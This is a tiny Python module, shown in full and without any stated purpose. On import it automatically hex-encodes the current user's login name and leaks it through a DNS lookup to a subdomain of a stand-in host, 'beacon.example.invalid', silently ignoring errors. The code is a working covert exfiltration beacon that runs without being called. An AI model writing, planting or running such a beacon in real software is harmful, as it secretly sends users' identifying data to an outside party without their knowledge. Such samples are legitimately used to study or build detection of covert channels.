import getpass
import socket


def _beacon():
    label = getpass.getuser().encode().hex()
    try:
        socket.gethostbyname(f"{label}.beacon.example.invalid")
    except OSError:
        pass


_beacon()
